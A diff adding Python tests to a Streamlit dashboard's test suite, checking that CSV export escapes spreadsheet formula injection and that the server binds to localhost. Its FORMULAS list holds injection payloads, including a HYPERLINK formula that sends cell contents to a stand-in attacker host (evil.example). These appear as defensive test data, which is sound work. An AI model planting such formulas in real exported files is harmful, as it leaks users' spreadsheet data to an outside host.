@@ -1,8 +1,10 @@
 """Every dashboard page under Streamlit's AppTest, with real interactions (tiny model)."""
 
 import base64
+import csv
 import io
 import json
+import tomllib
 import zipfile
 from pathlib import Path
 
@@ -144,3 +146,29 @@ def test_charts_export_as_png_svg_html_and_csv():
     bundle, notes = export.report_bundle([export.Chart("chart", figure, frame)], {"survey": "x"})
     names = set(zipfile.ZipFile(io.BytesIO(bundle)).namelist())
     assert notes == [] and {"chart.png", "chart.svg", "chart.html", "chart.csv", "manifest.json"} <= names
+
+
+FORMULAS = ["=1+2", "@SUM(1)", '=HYPERLINK("http://evil.example/?leak="&A1,"Yes")', "+1", "-cmd", "\tx", "\rx"]
+
+
+def test_csv_export_escapes_spreadsheet_formulas_in_cells_and_headers():
+    from dashboard import charts, export
+
+    labels = [*FORMULAS, "Plain answer"]
+    frame = charts.distribution_frame(labels, np.full(len(labels), 1 / len(labels)), None, None)
+    frame["=HYPERLINK(\"http://evil.example\")"] = -0.5  # a typed question as a header; a negative number
+    original = frame.copy()
+    rows = list(csv.reader(io.StringIO(export.csv_bytes(frame).decode(), newline="")))
+    assert rows[0] == ["option", "simulated", "real", "real_band", "'=HYPERLINK(\"http://evil.example\")"]
+    assert [row[0] for row in rows[1:]] == ["'" + label for label in FORMULAS] + ["Plain answer"]
+    assert {row[4] for row in rows[1:]} == {"-0.5"}  # numbers stay numbers
+    assert frame.equals(original)  # the frame on screen keeps its text
+
+    figure = charts.distribution_figure(frame, "=1+2", "slice")
+    bundle, _ = export.report_bundle([export.Chart("chart", figure, frame)], {"survey": "x"}, with_images=False)
+    assert zipfile.ZipFile(io.BytesIO(bundle)).read("chart.csv") == export.csv_bytes(frame)
+
+
+def test_the_dashboard_listens_only_on_this_machine_unless_told_otherwise():
+    config = tomllib.loads((DASHBOARD.parent / ".streamlit" / "config.toml").read_text())
+    assert config["server"]["address"] == "127.0.0.1"
